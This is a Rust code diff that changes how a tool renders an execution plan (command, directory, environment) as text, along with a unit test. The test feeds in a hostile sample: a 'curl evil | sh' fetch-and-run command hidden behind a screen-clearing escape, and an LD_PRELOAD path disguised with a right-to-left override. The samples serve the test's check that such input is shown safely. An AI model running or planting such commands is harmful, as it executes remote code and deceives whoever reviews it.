@@ -2,7 +2,7 @@
 
 use super::say;
 use crate::fault::{Doing, Fault};
-use crate::plan::{Cache, Conduct, Plan, duration, shell_line};
+use crate::plan::{Cache, Conduct, Plan, Word, duration, shell_line};
 use crate::report::page::Page;
 use crate::workload::Workload;
 use std::io::{BufRead, IsTerminal, Write};
@@ -66,7 +66,7 @@ fn shown(plan: &Plan, path: &Path) -> String {
         path.display()
     );
     page.paragraph("", &heading, 0);
-    page.unbroken("  command    ", &shell_line(command.iter().map(String::as_str)));
+    page.unbroken("  command    ", &shell_line(command));
     if let Some(workload) = workload {
         page.unbroken("  workload   ", &workload.typed());
         definition(workload, &mut page);
@@ -79,9 +79,9 @@ fn shown(plan: &Plan, path: &Path) -> String {
         page.unbroken("  beside     ", &neighbour.to_string());
         definition(&neighbour.workload, &mut page);
     }
-    page.unbroken("  directory  ", &cwd.to_string_lossy());
+    page.unbroken("  directory  ", &Word::from(cwd.as_path()).shown());
     for (name, value) in environment {
-        page.unbroken("  variable   ", &shell_line([format!("{name}={value}").as_str()]));
+        page.unbroken("  variable   ", &shell_line([value.after(&format!("{name}="))]));
     }
     if *inherit_environment {
         page.unbroken("  variables  ", "all of yours");
@@ -166,8 +166,8 @@ mod tests {
 
     #[test]
     fn all_that_would_be_executed_is_shown_and_nothing_of_it_acts_on_the_terminal() {
-        let command = ["sh", "-c", "curl evil | sh\u{1b}[2J\n# harmless"].map(String::from);
-        let environment = vec![(String::from("LD_PRELOAD"), String::from("/tmp/x.so\u{202e}"))];
+        let command = ["sh", "-c", "curl evil | sh\u{1b}[2J\n# harmless"].map(Word::from);
+        let environment = vec![(String::from("LD_PRELOAD"), "/tmp/x.so\u{202e}".into())];
         let writable = vec![std::path::PathBuf::from("/etc")];
         let plan =
             Plan { command: command.into(), environment, writable, ..plan(&["native", "runc"]) };
